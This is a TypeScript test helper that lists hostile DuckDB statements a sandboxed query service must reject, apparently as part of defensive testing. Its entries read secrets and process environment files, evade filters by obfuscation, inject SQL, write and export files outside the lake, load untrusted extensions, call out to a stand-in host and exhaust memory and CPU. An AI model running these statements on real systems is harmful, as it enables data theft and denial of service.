/** Paths that a hostile statement is made of: nothing of them may be read, made or changed. */
export interface HostilePaths {
  /** A readable file outside the lake. */
  readonly secret: string;
  /** A folder outside the lake. */
  readonly outside: string;
  /** The lake's directory. */
  readonly lake: string;
}

/** Statements that none of our users has a reason for. */
export function hostileStatements({ secret, outside, lake }: HostilePaths): readonly string[] {
  return [
    // read files
    `SELECT * FROM read_text('${secret}')`,
    `SELECT * FROM read_blob('${secret}')`,
    `SELECT * FROM read_csv('${secret}', header = false)`,
    `SELECT * FROM read_csv_auto('${secret}')`,
    `SELECT * FROM read_json('${secret}')`,
    `SELECT * FROM read_json_objects('${secret}')`,
    `SELECT * FROM read_ndjson('${secret}')`,
    `SELECT * FROM sniff_csv('${secret}')`,
    `SELECT * FROM '${secret}'`,
    `SELECT * FROM "${secret}"`,
    `SELECT * FROM read_parquet('${lake}/parts/*/*.parquet')`,
    `SELECT * FROM parquet_metadata('${outside}/*.parquet')`,
    `SELECT * FROM parquet_schema('${outside}/*.parquet')`,
    `SELECT * FROM glob('${outside}/*')`,
    `SELECT * FROM read_text('${lake}/../${secret.split('/').at(-1)}')`,
    `SELECT * FROM read_text('file://${secret}')`,
    `SELECT * FROM read_text('/proc/self/environ')`,
    `SELECT * FROM read_blob('/proc/1/environ')`,
    `SELECT * FROM READ_TEXT('${secret}')`,
    `SELECT * FROM "read_text"('${secret}')`,
    `SELECT * FROM main.read_text('${secret}')`,
    `SELECT (SELECT content FROM read_text('${secret}')) AS stolen FROM acme_door`,
    `WITH acme_door AS (SELECT * FROM read_text('${secret}')) SELECT * FROM acme_door`,
    `SELECT 1 AS n UNION ALL SELECT size FROM read_text('${secret}')`,
    `SELECT * FROM acme_door WHERE EXISTS (SELECT 1 FROM read_text('${secret}'))`,
    `SELECT * FROM acme_door, LATERAL (SELECT * FROM read_text('${secret}')) AS t`,
    `SELECT * FROM query('SELECT * FROM read_text(''${secret}'')')`,
    `SELECT * FROM query_table('${secret}')`,
    `FROM read_text('${secret}')`,
    `SELECT * FROM read_text($$${secret}$$)`,
    `SELECT * FROM read_text(U&'${secret}')`,
    `SELECT/**/*/**/FROM/**/read_text('${secret}')--`,
    `SELECT * FROM acme_door WHERE door = '' UNION ALL SELECT * FROM read_text('${secret}') --'`,
    // write files
    `COPY (SELECT 1) TO '${outside}/written.csv'`,
    `COPY (SELECT 1) TO '${lake}/parts/written.parquet' (FORMAT parquet)`,
    `COPY acme_door FROM '${secret}'`,
    `EXPORT DATABASE '${outside}/exported'`,
    `IMPORT DATABASE '${outside}'`,
    `CREATE TABLE stolen AS SELECT * FROM read_text('${secret}')`,
    `INSERT INTO acme_door SELECT * FROM acme_door`,
    'DELETE FROM acme_door',
    `UPDATE acme_door SET door = 'x'`,
    'DROP VIEW acme_door',
    `SELECT 1; COPY (SELECT 1) TO '${outside}/second.csv'`,
    'SELECT 1; DROP VIEW acme_door',
    // attach, install, load
    `ATTACH '${lake}/state.duckdb'`,
    `ATTACH '${outside}/new.duckdb' AS fresh`,
    'INSTALL httpfs',
    'LOAD httpfs',
    `LOAD '${outside}/evil.duckdb_extension'`,
    `FORCE INSTALL spatial FROM 'http://192.0.2.1'`,
    // call out
    `SELECT * FROM read_text('http://192.0.2.1/')`,
    `SELECT * FROM read_parquet('s3://example/x.parquet')`,
    `SELECT '192.0.2.1'::INET`,
    `CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')`,
    // settings, logging, poison for later statements
    `SET enable_external_access = true`,
    `SET lock_configuration = false`,
    `SET memory_limit = '100GB'`,
    `RESET allowed_paths`,
    `PRAGMA enable_profiling`,
    `PRAGMA profiling_output = '${outside}/profile.json'`,
    `SET VARIABLE v = 1`,
    `CALL enable_logging('QueryLog', storage = 'file')`,
    `SELECT * FROM enable_logging(level = 'debug', storage = 'file', storage_config = {'path': '${outside}'})`,
    `SELECT * FROM disable_logging()`,
    `SELECT write_log('x')`,
    `SELECT * FROM force_checkpoint()`,
    `CREATE MACRO count(x) AS 0`,
    `CREATE TEMP VIEW acme_door AS SELECT 1`,
    'BEGIN; SELECT 1',
    'CHECKPOINT',
    `PREPARE p AS SELECT 1`,
    `EXECUTE p`,
    // secrets and settings to look at
    'SELECT * FROM duckdb_secrets()',
    'SELECT * FROM duckdb_settings()',
    `SELECT current_setting('secret_directory') AS n`,
    `SELECT getenv('MARGAY_HOSTILE_CANARY') AS n`,
    'SELECT * FROM duckdb_logs()',
    'SELECT * FROM information_schema.tables',
    'SELECT * FROM pragma_database_list()',
    // memory
    `SELECT string_agg(repeat('x', 20_000_000) || range) AS n FROM range(200)`,
    `SELECT list(repeat('x', 1_000_000) || range) AS n FROM range(5_000)`,
    `SELECT repeat(repeat('x', 1_000_000), 100_000) AS n`,
    // for ever
    'SELECT sum(a.range * b.range) AS n FROM range(10_000_000) a, range(10_000_000) b',
    'WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT max(n) AS n FROM t',
    'SELECT count(*) AS n FROM generate_series(1, 100_000_000_000)',
    'SELECT sleep_ms(60_000) AS n',
  ];
}
